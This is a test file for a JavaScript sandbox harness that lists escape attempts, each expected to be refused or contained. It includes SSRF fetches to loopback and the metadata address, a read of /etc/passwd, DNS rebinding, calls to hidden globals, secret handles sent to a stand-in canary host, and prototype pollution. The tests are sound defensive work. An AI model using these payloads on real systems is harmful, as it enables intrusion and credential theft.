import { expect } from "vitest";

interface Ended {
  output: unknown;
  error: { code: string; message: string } | null | undefined;
}

export interface Escape {
  name: string;
  module: string;
  /** Further members of the handler. */
  code?: object;
  expected(ended: Ended): void;
}

const CANARY = "http://canary.test:8080/canary";

/** The module tries something and answers "out" if it worked, and else what it was told. */
function attempt(name: string, body: string, code: object = {}): Escape {
  const module = `export async function act(input, context) { try { ${body}; return "out"; } catch (error) { return "refused: " + String(error && error.message).slice(0, 200); } }`;
  return { name, module, code, expected: ({ output }) => expect(output).toMatch(/^refused: /) };
}

/** The step must fail with that code. */
function fails(name: string, body: string, code: string): Escape {
  const module = `export async function act(input, context) { ${body} }`;
  return { name, module, expected: ({ error }) => expect(error?.code).toBe(code) };
}

/** The step must answer exactly this. */
function gives(name: string, body: string, output: unknown): Escape {
  const module = `export async function act(input, context) { ${body} }`;
  return { name, module, expected: (ended) => expect(ended.output).toEqual(output) };
}

const KEY = {
  secrets: [{ name: "KEY", in: ["header:authorization"], hosts: ["api.test"] }],
  hosts: ["api.test", "canary.test"],
};

export const ESCAPES: Escape[] = [
  // The network.
  attempt("fetch of an undeclared host", `await fetch("${CANARY}")`),
  attempt("fetch of loopback", 'await fetch("http://127.0.0.1:8080/canary")'),
  attempt("fetch of the metadata address", 'await fetch("http://169.254.169.254/latest/meta-data")'),
  attempt("fetch of a decimal address", 'await fetch("http://2130706433:8080/canary")'),
  attempt("fetch of a name that resolves to loopback", 'await fetch("http://127.0.0.1.nip.io/canary")'),
  attempt("fetch of a rebinding name", 'await fetch("http://7f000001.c0a80001.rbndr.us:8080/canary")'),
  attempt("fetch with a declared host as user", 'await fetch("http://api.test:8080@canary.test:8080/canary")'),
  attempt("fetch of a host that only begins like it", 'await fetch("http://api.test.canary.test:8080/canary")'),
  attempt("fetch of a file", 'await fetch("file:///etc/passwd")'),
  attempt("fetch of data as a URL", 'await fetch("data:text/plain,hi")'),
  attempt("a redirect to an undeclared host", 'await fetch("http://api.test:8080/redirect")'),
  attempt("a redirect inward", 'await fetch("http://api.test:8080/inward")'),
  attempt("WebSocket", `new WebSocket("ws://canary.test:8080/canary"); await new Promise((r) => setTimeout(r, 50))`),
  attempt("EventSource", `new EventSource("${CANARY}"); await new Promise((r) => setTimeout(r, 50))`),
  attempt(
    "connect() of cloudflare:sockets",
    'const { connect } = await import("cloudflare:sockets"); const s = connect("127.0.0.1:" + input.port); await s.opened',
  ),
  attempt(
    "the fetch that the harness hides",
    'const { fetch: own } = Object.getPrototypeOf(globalThis); await own.call(globalThis, "http://127.0.0.1:" + input.port + "/canary")',
  ),
  attempt(
    "the WebSocket that the harness hides",
    'const { WebSocket: Own } = Object.getPrototypeOf(globalThis); const s = new Own("ws://127.0.0.1:" + input.port + "/canary"); await new Promise((ok, no) => { s.addEventListener("open", ok); s.addEventListener("error", () => no(new Error("closed"))); s.addEventListener("close", () => no(new Error("closed"))); })',
  ),
  attempt("connect() of a socket that is no import", 'connect("127.0.0.1:" + input.port)'),
  attempt(
    "connect() of cloudflare:sockets to a declared host",
    'const { connect } = await import("cloudflare:sockets"); const s = connect("api.test:8080"); await s.opened',
  ),
  attempt(
    "the EventSource that the harness hides",
    'const { EventSource: Own } = Object.getPrototypeOf(globalThis); const s = new Own("http://127.0.0.1:" + input.port + "/canary"); await new Promise((ok, no) => { s.onopen = ok; s.onmessage = ok; s.onerror = () => no(new Error("closed")); setTimeout(() => no(new Error("nothing came")), 300); })',
  ),
  attempt(
    "an upgrade by fetch",
    'const a = await fetch("http://api.test:8080/n", { headers: { upgrade: "websocket" } }); if (!a.webSocket) throw new Error("no socket")',
  ),
  attempt("a beacon", `navigator.sendBeacon("${CANARY}")`),
  {
    name: "the beacon that the harness hides: it may say that it was sent, and nothing leaves",
    module: `export async function act() { const { navigator: own } = Object.getPrototypeOf(globalThis); try { own.sendBeacon("${CANARY}"); } catch {} await new Promise((r) => setTimeout(r, 200)); return 1; }`,
    expected: ({ output }) => expect(output).toBe(1),
  },
  attempt("a worker of its own", `new Worker("${CANARY}")`),
  attempt("importScripts", `importScripts("${CANARY}")`),
  attempt("a Request of its own realm", `await fetch(new Request("${CANARY}", { method: "POST", body: "x" }))`),
  attempt(
    "the cache's fetch",
    `const { caches: own } = Object.getPrototypeOf(globalThis); const c = await own.open("x"); await c.add("${CANARY}"); const hit = await c.match("${CANARY}"); if (!hit) throw new Error("nothing")`,
  ),
  attempt(
    "the entrypoints of its own Worker",
    `const { exports } = await import("cloudflare:workers"); await exports.default.fetch("${CANARY}")`,
  ),
  attempt(
    "the harness's own entrypoint, with a host of its own making",
    `const { default: Harness } = await import("../harness.js"); const { env } = await import("cloudflare:workers"); const own = Object.create(Harness.prototype); throw new Error(JSON.stringify(await own.run({ module: "none.js", exports: ["act"], input: {}, context: {} }, { send: () => { throw new Error("own host"); } })) + JSON.stringify(env))`,
  ),
  attempt("import of a URL", `await import("${CANARY}")`),
  attempt("import of data", 'await import("data:text/javascript,export default 1")'),
  attempt("import of node:net", 'await import("node:net")'),
  attempt("import of node:fs", 'await import("node:fs")'),
  attempt("import of node:http", 'await import("node:http")'),
  attempt("import of node:vm", 'await import("node:vm")'),
  attempt("import of node:dns", 'await import("node:dns")'),
  attempt("import of node:process", 'const p = await import("node:process"); p.binding("fs")'),
  attempt("import of cloudflare:email", 'await import("cloudflare:email")'),
  attempt("import of workerd:unsafe", 'await import("workerd:unsafe")'),
  attempt("import of cloudflare-internal:sockets", 'await import("cloudflare-internal:sockets")'),
  attempt("import of a module by another way", 'await import("/modules/../../other/modules/act.js")'),
  attempt("import of another tenant's modules by an isolate's name", 'await import("shared/ten_other/live/act.js")'),
  attempt("require", 'require("fs")'),
  attempt("import of node:child_process", 'await import("node:child_process")'),
  attempt("import of a module that was not published", 'await import("./other.js")'),
  attempt("a method that is none", 'await fetch("http://api.test:8080/", { method: "GET\\r\\nX: y" })'),
  attempt("a header with a line break", 'await fetch("http://api.test:8080/", { headers: { a: "b\\r\\nc: d" } })'),
  attempt("more than fifty requests", 'for (let i = 0; i < 60; i += 1) await fetch("http://api.test:8080/n")'),
  attempt(
    "seven requests at once",
    'const all = await Promise.allSettled(Array.from({ length: 7 }, () => fetch("http://api.test:8080/slow"))); const bad = all.find((it) => it.status === "rejected"); if (bad) throw bad.reason',
  ),
  attempt(
    "a body beyond the limit",
    'await fetch("http://api.test:8080/", { method: "POST", body: "x".repeat(1_100_000) })',
  ),

  // What is around it.
  gives(
    "no bindings and no environment",
    'const { env } = await import("cloudflare:workers"); return [Object.keys(env), typeof process === "undefined" ? [] : Object.keys(process.env ?? {})];',
    [[], []],
  ),
  gives("no caches", "return typeof caches;", "undefined"),
  attempt("eval", 'eval("1")'),
  attempt("new Function", 'new Function("return 1")()'),
  attempt("the constructor of an async function", '(async () => {}).constructor("return 1")()'),
  attempt(
    "setTimeout with a text",
    'globalThis.ran = false; setTimeout("globalThis.ran = true", 1); await new Promise((r) => setTimeout(r, 30)); if (!globalThis.ran) throw new Error("not run")',
  ),
  attempt("the constructor of a generator", '(function* () {}).constructor("return 1")()'),
  attempt(
    "Function of another prototype",
    'Reflect.construct(Object.getPrototypeOf(function () {}).constructor, ["return 1"])()',
  ),
  attempt("WebAssembly from bytes", "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))"),

  // Secrets.
  attempt(
    "a handle to a host that is not declared for it",
    `await fetch("${CANARY.replace("/canary", "/x")}", { headers: { authorization: context.secrets.KEY } })`,
    { ...KEY, hosts: ["api.test"] },
  ),
  attempt(
    "a handle in another header",
    'await fetch("http://api.test:8080/", { headers: { "x-other": context.secrets.KEY } })',
    KEY,
  ),
  attempt("a handle in the query", 'await fetch("http://api.test:8080/?k=" + context.secrets.KEY)', KEY),
  attempt("a handle in the path", 'await fetch("http://api.test:8080/" + context.secrets.KEY)', KEY),
  attempt(
    "a handle in the body",
    'await fetch("http://api.test:8080/", { method: "POST", body: context.secrets.KEY })',
    KEY,
  ),
  {
    name: "a secret that the service gives back",
    code: KEY,
    module:
      'export async function act(i, context) { const a = await fetch("http://api.test:8080/", { headers: { authorization: context.secrets.KEY } }); return (await a.json()).headers.authorization; }',
    expected: ({ output }) => expect(output).toBe("***"),
  },
  {
    name: "a secret in an error's message",
    code: KEY,
    module:
      'export async function act(i, context) { const a = await fetch("http://api.test:8080/", { headers: { authorization: context.secrets.KEY } }); throw new Error(await a.text()); }',
    expected: ({ error }) => expect(error?.message).toContain("***"),
  },

  // What it answers.
  fails("an answer with itself inside", "const a = {}; a.a = a; return a;", "VALIDATION"),
  fails("a BigInt", "return 10n;", "VALIDATION"),
  fails("a function", "return () => 1;", "VALIDATION"),
  fails("a getter that throws", 'return { get a() { throw new Error("no"); } };', "VALIDATION"),
  fails("a proxy that throws", 'return new Proxy({}, { ownKeys() { throw new Error("no"); } });', "VALIDATION"),
  fails("an answer beyond the limit", 'return "x".repeat(1_500_000);', "PAYLOAD_TOO_LARGE"),
  fails("an answer beyond any limit", 'return "x".repeat(20_000_000);', "PAYLOAD_TOO_LARGE"),
  fails("an answer too deep", "let a = []; for (let i = 0; i < 5_000; i += 1) a = [a]; return a;", "VALIDATION"),
  fails("an answer that poses as a secret", 'return { $secret: { name: "KEY" } };', "VALIDATION"),
  fails("a thrown proxy", 'throw new Proxy({}, { get() { throw new Error("no"); } });', "BACKEND_ERROR"),
  fails(
    "an error that says it is the platform's",
    'throw Object.assign(new Error("x"), { code: "INTERNAL_ERROR" });',
    "BACKEND_ERROR",
  ),
  gives("a thenable", "return { then(done) { done(7); } };", 7),
  gives("nothing", "", null),
  gives("a prototype in the answer", 'return JSON.parse(\'{"__proto__": {"polluted": true}, "a": 1}\');', { a: 1 }),
  gives(
    "prototypes in all that it says",
    'const p = JSON.parse(\'{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}\'); context.log.info("m", p); context.progress(1, p); await fetch("http://api.test:8080/n", { method: "POST", headers: { "x-__proto__": "1" }, body: JSON.stringify(p) }); return typeof {}.polluted;',
    "undefined",
  ),
  {
    name: "prototypes in an error",
    module:
      'export function act() { throw Object.assign(new Error("m"), { code: "__proto__", details: JSON.parse(\'{"__proto__": {"polluted": 1}, "a": 1}\') }); }',
    expected: ({ error }) => {
      expect(error).toMatchObject({ code: "BACKEND_ERROR", message: "m" });
      expect(JSON.stringify(error)).not.toContain("polluted");
    },
  },
  gives(
    "a prototype that was changed before",
    "Object.prototype.polluted = 1; Array.prototype.map = () => 0; return { a: 1 };",
    { a: 1 },
  ),
  gives("a flood of lines", 'for (let i = 0; i < 3_000; i += 1) console.log("x".repeat(100)); return 1;', 1),
  fails(
    "the harness's own JSON replaced",
    'JSON.stringify = () => "{}"; Object.prototype.toJSON = () => 1n; return { a: 1 };',
    "VALIDATION",
  ),
];
